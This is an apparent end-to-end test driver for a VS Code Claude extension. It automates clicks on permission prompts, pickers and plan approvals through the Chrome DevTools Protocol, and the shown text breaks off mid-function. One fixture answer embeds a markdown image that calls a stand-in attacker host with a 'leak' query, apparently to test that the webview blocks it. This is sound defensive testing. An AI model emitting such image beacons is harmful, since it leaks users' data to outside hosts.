// The real VS Code suite (make test-vscode), run by test/e2e/run.sh under
// Node 24 with node's test runner.
//
// code-server (VS Code 1.139 in a browser) with the packaged extension and a
// test-only harness extension, opened in headless Chromium; the real
// claude-bridge, the real claude CLI and the Messages API stand-in behind it.
// The harness (harness-ext/extension.js) opens main.go and runs
// claudeBridge.runTask and claudeBridge.followUp; this driver watches the
// page through the Chrome DevTools Protocol and answers the UI as a person
// would: it clicks "Allow" on the permission notification (Edit) and on the
// permission modal (Bash), and "Cancel" on the follow-up's progress
// notification. No test-only switch in the extension: the buttons clicked
// are the extension's own UI.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import {
  BRIDGE,
  CLAUDE,
  Clicker,
  FAKEAPI,
  Processes,
  SCENARIO_TIMEOUT_MS,
  VSCODE_DIR,
  launchVsCode,
  makeSandbox,
  must,
  readSteps as readStepsOf,
  sleep,
  startFakeApi,
} from './lib.mjs';

const CODE_SERVER = must('CB_CODE_SERVER');
const VSIX = must('CB_VSIX');
const WORK = process.env.CB_E2E_WORK || path.join(VSCODE_DIR, '.cache', 'e2e', 'run');
const KEY = 'sk-ant-test-e2e-0123456789';

const EDIT_PROMPT = 'Make main.go greet the e2e test and record the permission';
const CANCEL_PROMPT = 'Now wait for a very long time';
const ASK_PROMPT = 'What does this function do?';
const COLOR_PROMPT = 'Pick a color for the button';
const PLAN_PROMPT = 'Plan a better greeting';
const SENT_MESSAGE = 'Also print the date';
const COLOR_Q = 'Which color should the button be?';
const FEATURES_Q = 'Which features do you want?';
// The file the stand-in waits for before claude's last answer of the plan
// task (set in before()).
let PLAN_GO_ON;
// A prompt of many lines (a pasted log): the transcript's title is its first line.
const TIDY_PROMPT = 'Tidy up the workspace\n' + Array.from({ length: 40 }, (_, i) => `log line ${i + 1}: something happened`).join('\n');
// A command whose first line hides the rest.
const TIDY_COMMAND = 'echo tidying up\necho tidied > tidied.txt\necho done';
const STALE_PROMPT = 'Ask a question that nobody answers';
const MAIN_GO = 'package main\n\nfunc main() {\n\tprintln("hello")\n}\n';
const LONG_ANSWER =
  '## Done\n\nI **edited** `main.go` and wrote `perm.txt`:\n\n- the greeting now says *hello, e2e*\n- the command recorded the permission\n\n' +
  'Details of the change follow, at length.\n\n'.repeat(1) +
  Array.from({ length: 160 }, (_, i) => `${i + 1}. Step ${i + 1} of the walk-through: nothing more to see here, the change is small.\n`).join('') +
  '\n![status](https://attacker.invalid/pixel.png?key=leak)\n\nEdited main.go and wrote perm.txt.';


// What the page shows, read in one evaluation: notification toasts (message,
// buttons with their centres, whether a progress bar runs), the modal dialog,
// and the status bar items that mention Claude.
const READ_UI = `(() => {
  const centre = (el) => { const r = el.getBoundingClientRect(); return { x: r.x + r.width / 2, y: r.y + r.height / 2, w: r.width, h: r.height }; };
  const buttons = (root) => [...root.querySelectorAll('a.monaco-button, .monaco-button')]
    .filter((b, i, all) => all.indexOf(b) === i)
    .map((b) => ({ label: (b.textContent || b.getAttribute('aria-label') || b.title || '').trim(), ...centre(b) }));
  const toasts = [...document.querySelectorAll('.notification-toast-container, .notification-toast')]
    .filter((t) => t.offsetParent !== null)
    .map((t) => ({
      text: (t.querySelector('.notification-list-item-message') || t).textContent.trim(),
      source: (t.querySelector('.notification-list-item-source') || {}).textContent || '',
      progress: !!t.querySelector('.monaco-progress-container.active, .monaco-progress-container.infinite'),
      buttons: buttons(t),
    }));
  // The notification center (the bell), where notifications go once their toast hid.
  const center = [...document.querySelectorAll('.notifications-center .notification-list-item')]
    .filter((t) => t.offsetParent !== null)
    .map((t) => ({ text: (t.querySelector('.notification-list-item-message') || t).textContent.trim(), buttons: buttons(t) }));
  const bellEl = document.getElementById('status.notifications');
  const bell = bellEl && bellEl.offsetParent !== null ? centre(bellEl) : null;
  const box = document.querySelector('.monaco-dialog-box');
  const dialog = box && box.offsetParent !== null ? {
    text: ((box.querySelector('.dialog-message-text') || {}).textContent || '') + ' ' + ((box.querySelector('.dialog-message-detail') || {}).textContent || ''),
    buttons: buttons(box.querySelector('.dialog-buttons') || box),
  } : null;
  const status = [...document.querySelectorAll('.statusbar-item')]
    .map((e) => (e.textContent || '').trim() + ' ' + (e.getAttribute('aria-label') || ''))
    .filter((t) => /Claude/.test(t));
  const statusItems = [...document.querySelectorAll('.statusbar-item')]
    .filter((e) => /Claude/.test(e.textContent || ''))
    .map((e) => ({ label: (e.textContent || '').trim(), ...centre(e) }));
  const qi = document.querySelector('.quick-input-widget');
  const quickPick = qi && qi.offsetParent !== null && qi.style.display !== 'none' ? {
    title: ((qi.querySelector('.quick-input-title') || {}).textContent || '').trim(),
    rows: [...qi.querySelectorAll('.monaco-list-row')].map((r) => ({
      label: (r.textContent || '').trim(),
      checked: r.getAttribute('aria-checked') === 'true' || !!r.querySelector('.quick-input-list-checkbox:checked, input[type=checkbox]:checked, .monaco-custom-toggle.checked'),
      ...centre(r),
    })),
    ok: (() => { const b = [...qi.querySelectorAll('.monaco-button')].find((x) => /^OK$/.test((x.textContent || '').trim())); return b && b.offsetParent !== null ? centre(b) : null; })(),
  } : null;
  const workbench = !!document.querySelector('.monaco-workbench');
  // The transcript webview: an iframe (VS Code's host page) holding the
  // extension's page in another iframe, both served from this origin.
  const webviews = [...document.querySelectorAll('iframe')].filter((f) => f.offsetParent !== null).map((outer) => {
    const r1 = outer.getBoundingClientRect();
    let d1;
    try { d1 = outer.contentDocument; } catch (e) { return { error: 'cross-origin: ' + e }; }
    const inner = d1 && (d1.querySelector('iframe#active-frame') || d1.querySelector('iframe'));
    if (!inner) return { error: 'no inner frame' };
    const r2 = inner.getBoundingClientRect();
    let d;
    try { d = inner.contentDocument; } catch (e) { return { error: 'inner cross-origin: ' + e }; }
    if (!d || !d.getElementById('transcript')) {
      const text = d && d.body ? d.body.innerText : '';
      const h = d && [...d.querySelectorAll('h1, h2, h3')].find((x) => /If claude is not found/.test(x.textContent));
      return { other: true, preview: text.trim().slice(0, 400), text: text.slice(0, 3000), sectionTop: h ? Math.round(h.getBoundingClientRect().top) : null };
    }
    const head = d.querySelector('.block.head');
    const at = (el) => { const r = el.getBoundingClientRect(); return { x: r1.x + r2.x + r.x + r.width / 2, y: r1.y + r2.y + r.y + r.height / 2, w: r.width, h: r.height }; };
    return {
      title: ((d.querySelector('h1') || {}).textContent || '').trim(),
      texts: [...d.querySelectorAll('.text.markdown')].map((e) => e.innerHTML),
      tools: [...d.querySelectorAll('details.tool')].map((e) => ({ cls: e.className, summary: e.querySelector('summary').textContent.trim(), open: e.open, html: e.innerHTML })),
      end: ((d.querySelector('.end') || {}).textContent || '').trim(),
      buttons: [...d.querySelectorAll('button[data-answer]')].map((b) => ({ label: b.textContent.trim(), question: b.closest('.question').textContent.trim(), disabled: b.disabled, ...at(b) })),
      planButtons: [...d.querySelectorAll('button[data-plan]')].map((b) => ({ label: b.textContent.trim(), disabled: b.disabled, ...at(b) })),
      plan: ((d.querySelector('.plan.markdown') || {}).innerHTML || ''),
      todos: ((d.querySelector('.todos-head') || {}).textContent || '').trim(),
      userMessages: [...d.querySelectorAll('.user-message')].map((e) => e.textContent.trim()),
      modes: [...d.querySelectorAll('.note.mode')].map((e) => e.textContent.trim()),
      status: ((d.querySelector('header .pill') || {}).textContent || '').trim(),
      // The page's blocks in order (the header first, the end last).
      blocks: [...d.querySelectorAll('#transcript > .block')].filter((b) => !b.hidden).map((b) => ({ key: b.dataset.key, text: (b.textContent || '').trim().slice(0, 80) })),
      overflowX: d.documentElement.scrollWidth - d.documentElement.clientWidth,
      composer: (() => { const c = d.getElementById('composer'); const m = d.getElementById('message'); const b = d.getElementById('send');
        return c && !c.hidden ? { placeholder: m.placeholder, value: m.value, box: at(m), send: { label: b.textContent, ...at(b) },
          pending: [...d.querySelectorAll('#pending .pending-message')].map((e) => e.textContent.trim()) } : null; })(),
      finalAnswers: (d.body.innerText.match(/Edited main\.go and wrote perm\.txt\./g) || []).length,
      headTop: head ? Math.round(head.getBoundingClientRect().top) : null,
      scrollY: Math.round(inner.contentWindow.scrollY),
      imageLinks: [...d.querySelectorAll('a.image-link')].map((a) => a.getAttribute('href')),
      images: [...d.querySelectorAll('img')].map((i) => i.getAttribute('src')),
      csp: ((d.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || ''),
    };
  });
  const tabs = [...document.querySelectorAll('.tab')].map((t) => (t.getAttribute('aria-label') || t.textContent || '').trim());
  const se = document.querySelector('.settings-editor');
  const settings = se && se.offsetParent !== null ? {
    text: se.innerText.slice(0, 4000),
    tab: ((se.querySelector('.settings-tabs-widget .action-item.checked, .settings-tabs-widget .checked') || {}).textContent || '').trim(),
  } : null;
  return { toasts, center, bell, dialog, status, statusItems, quickPick, workbench, webviews, tabs, settings };
})()`;

// Scrolls the transcript page to its top.
const SCROLL_TRANSCRIPT_TOP = `(() => {
  for (const outer of document.querySelectorAll('iframe')) {
    try {
      const inner = outer.contentDocument && (outer.contentDocument.querySelector('iframe#active-frame') || outer.contentDocument.querySelector('iframe'));
      if (inner && inner.contentDocument && inner.contentDocument.getElementById('transcript')) inner.contentWindow.scrollTo(0, 0);
    } catch { /* not ours */ }
  }
})()`;

// Scrolls the transcript page to its end.
const SCROLL_TRANSCRIPT_END = `(() => {
  for (const outer of document.querySelectorAll('iframe')) {
    try {
      const inner = outer.contentDocument && (outer.contentDocument.querySelector('iframe#active-frame') || outer.contentDocument.querySelector('iframe'));
      if (inner && inner.contentDocument && inner.contentDocument.getElementById('transcript')) inner.contentWindow.scrollTo(0, inner.contentDocument.body.scrollHeight);
    } catch { /* not ours */ }
  }
})()`;

// Scrolls the transcript page's question buttons into view.
const SCROLL_TO_QUESTION = `(() => {
  for (const outer of document.querySelectorAll('iframe')) {
    try {
      const inner = outer.contentDocument && (outer.contentDocument.querySelector('iframe#active-frame') || outer.contentDocument.querySelector('iframe'));
      const b = inner && inner.contentDocument && inner.contentDocument.querySelector('button[data-answer]');
      if (b) { b.scrollIntoView({ block: 'center' }); return true; }
    } catch { /* not ours */ }
  }
  return false;
})()`;

// Scrolls the transcript page's element matching a selector into view.
const scrollTranscriptTo = (selector) => `(() => {
  for (const outer of document.querySelectorAll('iframe')) {
    try {
      const inner = outer.contentDocument && (outer.contentDocument.querySelector('iframe#active-frame') || outer.contentDocument.querySelector('iframe'));
      const el = inner && inner.contentDocument && inner.contentDocument.querySelector(${JSON.stringify(selector)});
      if (el) { el.scrollIntoView({ block: 'center' }); return true; }
    } catch { /* not ours */ }
  }
  return false;
})()`;

const seen = {
  toastTexts: new Set(),
  progressToasts: [],
  status: new Set(),
  clicks: [],
  screenshots: [],
  dialogs: [],
  missingButtons: new Set(),
  taskListRows: [],
  taskActions: [],
  webviewErrors: new Set(),
  // The Edit question: its notification, hidden (as VS Code hides it after
  // some seconds), then answered from the status bar item's picker.
  edit: { toastAt: 0, hideSentAt: 0, hiddenAt: 0, statusItem: '', pickTitle: '', pickRows: [], answeredAt: 0 },
  // The Bash question: answered with the transcript's button.
  bash: { buttons: [], answeredAt: 0 },
  transcript: null,
  transcriptAt: 0,
  claudeMissing: null,
  // claude's questions: the notification, then one QuickPick per question.
  color: { toast: null, picks: [], answered: [] },
  // The plan: approved in the transcript; a message sent from its box;
  // the plan's notification, left behind, clicked.
  plan: { buttons: [], approveClickedAt: 0, sentAt: 0 },
  // The multi-line command: its notification, the modal that shows it whole.
  tidy: { toastText: '', toastButtons: [], review: null },
  // The question of a task cancelled while it waited.
  stale: { statusItem: '', goneAfterMs: -1, toastClicked: false, lateClick: '' },
  // The transcript reopened from the task list after its task ended.
  reopened: null,
  readme: null,
  claudeSettings: null,
};
let result;
let steps = [];
let cdp;
let sandbox;

const procs = new Processes(WORK);
let clicker;

function readSteps() {
  return readStepsOf(sandbox.e2eDir);
}

/** Clicks a button once it stands still (lib.mjs Clicker; retryMs: see there). */
function clickOnce(key, button, record, retryMs) {
  return clicker.once(key, button, record, retryMs);
}

/**
 * Answers the task's permission questions as a person who looked away
 * would: the Edit question's notification is hidden (Escape, which is what
 * VS Code does by itself after some seconds) and the question answered
 * later from the status bar item; the Bash question is answered with the
 * Allow button in the transcript.
 */
async function answerQuestions(ui, page) {
  const e = seen.edit;
  const editToast = ui.toasts.find((t) => /^Claude wants to run Edit/.test(t.text));
  if (editToast && !e.toastAt) {
    e.toastAt = Date.now();
    e.toastText = editToast.text;
    e.toastButtons = editToast.buttons.map((b) => b.label);
    await sleep(400);
    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-notification.png')));
  }
  if (e.toastAt && !e.hideSentAt) {
    e.hideSentAt = Date.now();
    await cdp.key('Escape', 'Escape', 27);
  }
  if (e.hideSentAt && !e.hiddenAt && !editToast) e.hiddenAt = Date.now();
  if (e.hiddenAt && !e.answeredAt) {
    const item = ui.statusItems.find((i) => /Claude asks/.test(i.label));
    const qp = ui.quickPick;
    if (qp && /Claude wants to run Edit/.test(qp.title)) {
      e.pickTitle = qp.title;
      e.pickRows = qp.rows.map((r) => r.label);
      const allow = qp.rows.find((r) => r.label === 'Allow');
      if (allow) {
        if (!e.pickShot) {
          e.pickShot = true;
          seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-picker.png')));
        }
        await clickOnce('edit-pick', allow, { where: 'question picker', text: qp.title });
        if (seen.clicks.some((c) => c.where === 'question picker')) e.answeredAt = Date.now();
      }
    } else if (item && /Edit/.test(item.label)) {
      e.statusItem = item.label;
      e.statusItemShownAfterHideMs = Date.now() - e.hiddenAt;
      await clickOnce('question-item', item, { where: 'question status item', text: item.label });
    }
  }
  const b = seen.bash;
  const bashButtons = page ? page.buttons.filter((x) => /Bash/.test(x.question)) : [];
  if (bashButtons.length && !b.answeredAt) {
    b.buttons = bashButtons.map((x) => x.label);
    b.question = bashButtons[0].question;
    const allow = bashButtons.find((x) => x.label === 'Allow' && !x.disabled);
    if (allow) {
      if (!b.shot) {
        b.shot = true;
        await cdp.eval(SCROLL_TO_QUESTION);
        await sleep(300);
        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-transcript.png')));
        return; // positions changed: click on the next look
      }
      await clickOnce('bash-transcript', allow, { where: 'transcript', text: b.question });
    }
  }
  if (b.shot && !b.answeredAt && seen.clicks.some((c) => c.where === 'transcript') && bashButtons.length === 0) b.answeredAt = Date.now();
}

/**
 * claude's two questions: "Answer…" on the notification, then the first
 * QuickPick's "Red", then in the second (several allowed) "Dark mode" and
 * "Export" ticked and OK.
 */
async function answerColor(ui) {
  const c = seen.color;
  const qp = ui.quickPick;
  if (qp && qp.title.startsWith('Claude asks (Color)')) {
    if (!c.picks.some((p) => p.title === qp.title)) {
      c.picks.push({ title: qp.title, rows: qp.rows.map((r) => r.label) });
      return; // the picture on the next look, once it has drawn
    }
    if (!c.shot) {
      c.shot = true;
      seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'ask-quickpick.png')));
    }
    const red = qp.rows.find((r) => r.label.startsWith('Red'));
    if (red) await clickOnce('color-red', red, { where: 'ask picker', text: qp.title }, 15000);
    return;
  }
  if (qp && qp.title.startsWith('Claude asks (Features)')) {
    if (!c.picks.some((p) => p.title === qp.title)) c.picks.push({ title: qp.title, rows: qp.rows.map((r) => r.label) });
    // Each row toggled until exactly the two wanted are ticked.
    const wanted = (r) => r.label.startsWith('Dark mode') || r.label.startsWith('Export');
    const wrong = qp.rows.find((r) => r.checked !== wanted(r));
    if (wrong) {
      await clickOnce(`features-${wrong.label}-${!wrong.checked}`, wrong, { where: 'ask picker', text: wrong.label }, 15000);
      return;
    }
    const ticked = qp.rows.filter((r) => r.checked).map((r) => r.label);
    if (ticked.length === 2 && !c.answered.includes('features')) {
      c.ticked = ticked;
      c.answered.push('features');
      if (qp.ok) await cdp.click(qp.ok.x, qp.ok.y);
      else await cdp.key('Enter', 'Enter', 13);
      seen.clicks.push({ where: 'ask picker', button: 'OK', at: Date.now() });
    }
    return;
  }
  const toast = ui.toasts.find((t) => /^Claude asks \(Color\)/.test(t.text));
  if (toast && !c.toast) c.toast = { text: toast.text, buttons: toast.buttons.map((b) => b.label).filter(Boolean) };
  const answer = toast && toast.buttons.find((b) => b.label === 'Answer…');
  if (answer && c.picks.length === 0) await clickOnce('color-answer', answer, { where: 'ask notification', text: toast.text });
}

/**
 * The plan in its transcript: read, "Approve" clicked. Then, while claude
 * waits for its last answer (the stand-in holds it until the driver says
 * so), a message typed into the box under the transcript and sent: it
 * shows as sent, not yet read; the driver lets claude's answer come. Once
 * the task ended: the transcript read, and the plan's notification, left
 * behind since the plan was answered in the transcript, clicked.
 */
async function drivePlan(ui, page) {
  const p = seen.plan;
  if (!p.toast) {
    const t = ui.toasts.find((x) => /^Claude's plan is ready/.test(x.text));
    if (t) p.toast = { text: t.text, buttons: t.buttons.map((b) => b.label).filter(Boolean) };
  }
  if (!p.previewText) {
    const preview = ui.webviews.find((w) => w.other && /Greet the e2e test/.test(w.preview || ''));
    if (preview) p.previewText = preview.preview;
  }
  if (!page || page.title !== PLAN_PROMPT) return;
  const approve = page.planButtons.find((b) => b.label === 'Approve' && !b.disabled);
  if (approve && !p.approveClickedAt) {
    if (!p.scrolled) {
      p.scrolled = true;
      await cdp.eval(scrollTranscriptTo('.plan-form'));
      return; // positions changed: look again
    }
    if (!p.shot) {
      p.shot = true;
      p.buttons = page.planButtons.map((b) => b.label);
      p.planHtml = page.plan;
      p.statusWhileWaiting = page.status;
      seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'plan-transcript.png')));
      return;
    }
    await clickOnce('plan-approve', approve, { where: 'plan transcript', text: 'Approve' });
    if (seen.clicks.some((c) => c.where === 'plan transcript')) p.approveClickedAt = Date.now();
    return;
  }
  // claude's last answer is held (its request is in flight): type a message.
  const c = page.composer;
  if (p.approveClickedAt && !p.typed && c && /^Send/.test(c.send.label) && /^To-dos/.test(page.todos) && fs.existsSync(PLAN_GO_ON + '.held')) {
    p.todosWhenSending = page.todos;
    await cdp.click(c.box.x, c.box.y);
    await cdp.send('Input.insertText', { text: SENT_MESSAGE });
    p.typed = true;
    return;
  }
  if (p.typed && !p.sentAt && c && c.value === SENT_MESSAGE) {
    p.composerPlaceholder = c.placeholder;
    await cdp.click(c.send.x, c.send.y);
    p.sentAt = Date.now();
    seen.clicks.push({ where: 'composer', button: 'Send', at: p.sentAt });
    return;
  }
  // Sent, and shown so; claude has not read it: let its answer come.
  if (p.sentAt && !p.pendingSeen && c && c.pending.some((x) => x.includes(SENT_MESSAGE))) {
    p.pendingSeen = { pending: c.pending, value: c.value, userMessages: page.userMessages, status: page.status };
    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'transcript-sent.png')));
    fs.writeFileSync(PLAN_GO_ON, '');
    return;
  }
  if (p.pendingSeen && !p.read && steps.some((x) => x.step === 'plan-end') && /Completed/.test(page.end)) {
    if (!p.topScrolled) {
      p.topScrolled = true;
      await cdp.eval(SCROLL_TRANSCRIPT_TOP);
      return;
    }
    p.read = { blocks: page.blocks, todos: page.todos, userMessages: page.userMessages, modes: page.modes, end: page.end, status: page.status, overflowX: page.overflowX, pending: c && c.pending };
    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'transcript-conversation.png')));
    return;
  }
  // The plan's notification is still there (VS Code cannot close it; its
  // toast may have hidden by itself): in the notification center (the
  // bell), its Approve, clicked now, must say why it does nothing (in the
  // status bar: a notification shown while the center is open goes above
  // its scrolled view).
  if (p.read && !p.centerClosed) {
    // The same notice, left by an earlier stale click (it stays 10 s), is not
    // this one's: wait for it to go before clicking, and read it only after.
    const notice = ui.status.find((x) => /Claude: answered already/.test(x));
    if (!p.staleClickedAt && notice) return;
    if (p.staleClickedAt && !p.staleNotice) p.staleNotice = notice;
    if (p.staleNotice) {
      // Closed again (the bell toggles it), so that what comes next toasts.
      if (ui.center.length > 0) {
        if (ui.bell) await clickOnce('bell-close', { label: 'bell', ...ui.bell }, { where: 'status bar bell', text: 'close notifications' }, 15000);
        return;
      }
      p.centerClosed = true;
      fs.writeFileSync(path.join(sandbox.e2eDir, 'plan-read'), '');
      return;
    }
    if (p.staleClickedAt) return;
    if (ui.center.length === 0) {
      if (ui.bell) await clickOnce('bell', { label: 'bell', ...ui.bell }, { where: 'status bar bell', text: 'notifications' }, 15000);
      return;
    }
    const stale = ui.center.find((x) => /^Claude's plan is ready/.test(x.text));
    const button = stale && stale.buttons.find((b) => b.label === 'Approve');
    if (button) {
      await clickOnce('plan-stale', button, { where: 'stale plan notification', text: stale.text });
      if (seen.clicks.some((x) => x.where === 'stale plan notification')) p.staleClickedAt = Date.now();
    }
  }
}

/**
 * Issue 16, as a person meets it: a command whose first line hides the
 * rest is reviewed whole before it is allowed; a question whose task was
 * cancelled leaves the status bar, and its old notification's button says
 * so; a transcript reopened after its task ended reads in order, its
 * header sticking as it scrolls.
 */
async function issue16(ui, page) {
  const t = seen.tidy;
  const tidyToast = ui.toasts.find((x) => /^Claude wants to run Bash: “echo tidying up”/.test(x.text));
  if (tidyToast && !t.toastText) {
    t.toastText = tidyToast.text;
    t.toastButtons = tidyToast.buttons.map((b) => b.label).filter(Boolean);
    await sleep(300);
    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-cut.png')));
  }
  const review = tidyToast && tidyToast.buttons.find((b) => b.label === 'Review…');
  if (review && !t.review) await clickOnce('tidy-review', review, { where: 'tidy notification', text: tidyToast.text });
  // The toast hides by itself after some seconds (a busy machine may look
  // too late): the same notification then waits in the notification center
  // (the bell), with the same buttons. Not while the toast's own Review…
  // click may still be opening its dialog. The center is closed again once
  // the command was reviewed, so that later notifications toast.
  const tidyRunning = steps.some((x) => x.step === 'tidy-start') && !steps.some((x) => x.step === 'tidy-end');
  const toastClick = seen.clicks.find((c) => c.where === 'tidy notification');
  if (t.toastText && !tidyToast && !t.review && tidyRunning && (!toastClick || Date.now() - toastClick.at > 5000)) {
    if (ui.center.length === 0) {
      if (ui.bell) {
        await clickOnce('tidy-bell', { label: 'bell', ...ui.bell }, { where: 'status bar bell', text: 'notifications' }, 15000);
        t.openedCenter = true;
      }
    } else {
      const inCenter = ui.center.find((x) => x.text === t.toastText);
      const button = inCenter && inCenter.buttons.find((b) => b.label === 'Review…');
      if (button) {
        t.fromCenter = { text: inCenter.text, buttons: inCenter.buttons.map((b) => b.label).filter(Boolean) };
        await clickOnce('tidy-review-center', button, { where: 'tidy notification in the center', text: inCenter.text });
      }
    }
  }
  // Once: later scenarios open the center themselves.
  if (t.openedCenter && t.review && !t.centerClosed && ui.center.length > 0 && ui.bell) {
    await clickOnce('tidy-bell-close', { label: 'bell', ...ui.bell }, { where: 'status bar bell', text: 'close notifications' }, 15000);
    if (clickState.get('tidy-bell-close').tries > 0) t.centerClosed = true;
  }

  const st = seen.stale;
  if (steps.some((x) => x.step === 'stale-asked') && !fs.existsSync(path.join(sandbox.e2eDir, 'stale-seen'))) {
    const item = ui.statusItems.find((i) => /Claude asks/.test(i.label) && /echo never/.test(i.label));
    if (item) {
      st.statusItem = item.label;
      fs.writeFileSync(path.join(sandbox.e2eDir, 'stale-seen'), '');
    }
  }
  const staleEnd = steps.find((x) => x.step === 'stale-end');
  if (staleEnd && !fs.existsSync(path.join(sandbox.e2eDir, 'stale-checked'))) {
    if (st.goneAfterMs < 0 && !ui.statusItems.some((i) => /Claude asks/.test(i.label))) {
      st.goneAfterMs = Date.now() - staleEnd.at;
      seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'stale-gone.png')));
    }
    // The question's notification cannot be taken back; its button now says the question is over.
    const toast = ui.toasts.find((x) => /echo never/.test(x.text));
    const allow = toast && toast.buttons.find((b) => b.label === 'Allow');
    if (st.goneAfterMs >= 0 && allow) {
      await clickOnce('stale-toast', allow, { where: 'stale toast', text: toast.text });
      const click = seen.clicks.find((c) => c.where === 'stale toast');
      if (click) st.toastClicked = click.at;
    }
    const said = [...seen.status].find((x) => /answered already, or its task ended/.test(x));
    if (said) st.lateClick = said;
    // Done once the status bar said so, or a while after the click, or when there was no toast to click.
    const waited = st.toastClicked ? Date.now() - st.toastClicked > 8000 : Date.now() - staleEnd.at > 20000;
    if (st.goneAfterMs >= 0 && (said || waited)) {
      fs.writeFileSync(path.join(sandbox.e2eDir, 'stale-checked'), '');
    }
  }

  if (steps.some((x) => x.step === 'tasks-start') && seen.taskActions.length > 0 && !seen.reopened && page && /Completed/.test(page.end) && page.title.startsWith('Make main.go')) {
    const before = { blocks: page.blocks, finalAnswers: page.finalAnswers };
    await cdp.eval(SCROLL_TRANSCRIPT_END);
    await sleep(400);
    const ui2 = await cdp.eval(READ_UI);
    const p2 = ui2.webviews.find((w) => w.title !== undefined && !w.other && !w.error);
    seen.reopened = { ...before, headTop: p2 && p2.headTop, scrollY: p2 && p2.scrollY, end: page.end };
    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'transcript-scrolled.png')));
    fs.writeFileSync(path.join(sandbox.e2eDir, 'reopened-read'), '');
  }
}

async function drive() {
  const end = Date.now() + SCENARIO_TIMEOUT_MS;
  const resultFile = path.join(sandbox.e2eDir, 'result.json');
  let resultAt = 0;
  while (Date.now() < end) {
    if (!result && fs.existsSync(resultFile)) {
      result = JSON.parse(fs.readFileSync(resultFile, 'utf8'));
      steps = readSteps();
      // The harness's last step (the missing-bridge notification) may not
      // have been seen yet: keep looking for up to 10 s more.
      resultAt = Date.now();
    }
    const missingShown = [...seen.toastTexts].some((t) => /claude-bridge was not found/.test(t)) && [...seen.status].some((x) => /warning/.test(x));
    if (result && (missingShown || Date.now() - resultAt > 10000)) {
      return;
    }
    steps = readSteps();
    let ui;
    try {
      ui = await cdp.eval(READ_UI);
    } catch (err) {
      await sleep(250);
      continue;
    }
    for (const s of ui.status) seen.status.add(s);
    for (const t of ui.toasts) {
      seen.toastTexts.add(t.text);
      if (t.progress || t.buttons.some((b) => b.label === 'Cancel')) seen.progressToasts.push({ at: Date.now(), text: t.text });
      if (/claude-bridge was not found/.test(t.text)) for (const b of t.buttons) seen.missingButtons.add(b.label);
    }
    // A modal permission question (Bash) is answered first: it covers the rest.
    if (ui.dialog) {
      seen.dialogs.push(ui.dialog.text);
      if (/echo tidying up/.test(ui.dialog.text) && !seen.tidy.review) {
        seen.tidy.review = { text: ui.dialog.text, buttons: ui.dialog.buttons.map((b) => b.label) };
        await sleep(300);
        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-review.png')));
      }
      const allow = ui.dialog.buttons.find((b) => b.label === 'Allow');
      if (/Claude wants to run/.test(ui.dialog.text) && allow) {
        await clickOnce('dialog:' + ui.dialog.text, allow, {
          where: 'modal',
          text: ui.dialog.text,
          buttons: ui.dialog.buttons.map((b) => b.label),
        });
      }
      await sleep(150);
      continue;
    }
    for (const w of ui.webviews) if (w.error) seen.webviewErrors.add(w.error);
    const page = ui.webviews.find((w) => w.title !== undefined && !w.other && !w.error);
    await answerQuestions(ui, page);
    await issue16(ui, page);
    if (page && steps.some((x) => x.step === 'run-end') && !seen.transcript) {
      const end = steps.find((x) => x.step === 'run-end');
      if (/Completed/.test(page.end)) {
        seen.transcript = { ...page, tabs: ui.tabs };
        seen.transcriptAt = Date.now();
        seen.transcriptAfterRunEndMs = seen.transcriptAt - end.at;
        await cdp.eval(SCROLL_TRANSCRIPT_TOP);
        await sleep(300);
        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'transcript.png')));
        fs.writeFileSync(path.join(sandbox.e2eDir, 'transcript-read'), '');
      }
    }
    if (steps.some((x) => x.step === 'claude-missing-start') && !seen.readme) {
      const t = ui.toasts.find((x) => /cannot find the claude CLI/.test(x.text));
      if (t && !seen.claudeMissing) {
        await sleep(500); // let it settle for the picture
        seen.claudeMissing = { text: t.text, buttons: t.buttons.map((b) => b.label) };
        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'claude-missing.png')));
      }
      // Open README: the packed readme opens in a preview at its section.
      const readmeButton = t && t.buttons.find((b) => b.label === 'Open README');
      if (readmeButton) await clickOnce('readme', readmeButton, { where: 'claude missing', text: t.text });
      // The preview of the packed readme, which has the section (VS Code scrolls to it; where
      // it lands depends on when the page's images load, so that is recorded, not checked).
      const preview = ui.webviews.find((w) => w.other && w.sectionTop !== null && w.sectionTop !== undefined);
      if (preview) {
        seen.readme = {
          tabs: ui.tabs,
          section: true,
          sectionTop: preview.sectionTop,
          notFound: [...seen.toastTexts].some((x) => /cannot be found|could not be found/i.test(x)),
        };
        fs.writeFileSync(path.join(sandbox.e2eDir, 'claude-missing-seen'), '');
      }
    }
    if (steps.some((x) => x.step === 'claude-missing-again') && !seen.claudeSettings) {
      const t = ui.toasts.find((x) => /cannot find the claude CLI/.test(x.text));
      const setPath = t && t.buttons.find((b) => b.label === 'Set claudePath…');
      if (setPath) await clickOnce('set-claude-path', setPath, { where: 'claude missing', text: t.text });
      if (ui.settings && /claudePath|Claude Path/i.test(ui.settings.text) && !/No Settings Found/.test(ui.settings.text)) {
        await sleep(500);
        seen.claudeSettings = { tab: ui.settings.tab, text: ui.settings.text.slice(0, 1500) };
        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'set-claudepath.png')));
        fs.writeFileSync(path.join(sandbox.e2eDir, 'claude-settings-seen'), '');
      }
    }
    // The task list: click the status bar item, pick the edit task, open its transcript.
    if (steps.some((s) => s.step === 'tasks-start') && !steps.some((s) => s.step === 'tasks-end')) {
      const qp = ui.quickPick;
      if (!qp) {
        // Until the list has shown once; afterwards it closed because a transcript opened.
        const item = ui.statusItems[0];
        if (item && seen.taskListRows.length === 0) await clickOnce('status-item', item, { where: 'status bar', text: item.label });
      } else if (/Claude Tasks/.test(qp.title)) {
        seen.taskListRows = qp.rows.map((r) => r.label);
